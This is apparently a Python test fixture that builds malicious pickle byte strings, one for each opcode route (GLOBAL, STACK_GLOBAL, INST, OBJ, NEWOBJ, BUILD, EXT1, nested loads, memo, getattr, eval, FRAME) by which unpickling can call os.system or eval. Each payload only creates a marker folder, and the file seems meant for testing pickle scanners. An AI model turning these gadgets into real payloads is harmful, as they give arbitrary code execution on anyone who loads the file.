"""Pickles that run a command when they are read, one for each way in which a pickle can.

Each makes a folder as its mark. They hold nothing else.
"""

from __future__ import annotations

import struct
from pathlib import Path

EXTENSION = 0xF0  # code that one of them registers for os.system
_SYSTEM = b"cos\nsystem\n"


def attacks(mark: Path) -> dict[str, bytes]:
    """Pickles by the way in which they run; each one makes the folder `mark`."""
    command = f"mkdir {mark}".encode()
    line, text = b"S'" + command + b"'\n", _text(command)
    run = _SYSTEM + b"(" + line + b"tR"
    inner = struct.pack("<I", len(run) + 1) + run + b"."
    # map is lazy: whatever goes through it runs the command
    call = b"cbuiltins\nbytes\ncbuiltins\nmap\n" + _SYSTEM + text + b"\x85\x86\x81"
    return {
        "GLOBAL": run + b".",
        "STACK_GLOBAL": b"\x80\x04" + _text(b"os") + _text(b"system") + b"\x93" + text + b"\x85R.",
        "INST": b"(" + line + b"ios\nsystem\n.",
        "OBJ": b"(" + _SYSTEM + line + b"o.",
        "NEWOBJ": b"\x80\x04" + call + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + call + b"\x85}\x92.",
        "BUILD": b"\x80\x02cargparse\nNamespace\n)\x81}S'__setstate__'\n"
        + _SYSTEM
        + b"sb"
        + line
        + b"b.",
        "before PERSID": run + b"0Pother\n.",
        "EXT1": b"\x80\x02ccopyreg\nadd_extension\n(S'os'\nS'system'\nK\xf0tR0\x82\xf0"
        + text
        + b"\x85R.",
        "nested": b"\x80\x04cpickle\nloads\nB" + inner + b"\x85R.",
        "memo": b"\x80\x02" + _SYSTEM + b"q\x000" + line + b"q\x010h\x00(h\x01tR.",
        "getattr": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR("
        + line
        + b"tR.",
        "eval": b"cbuiltins\neval\n(V__import__('os').mkdir("
        + repr(str(mark)).encode()
        + b")\ntR.",
        "FRAME": b"\x80\x04\x95" + struct.pack("<Q", len(run) + 1) + run + b".",
    }


def _text(content: bytes) -> bytes:
    return b"\x8c" + bytes([len(content)]) + content
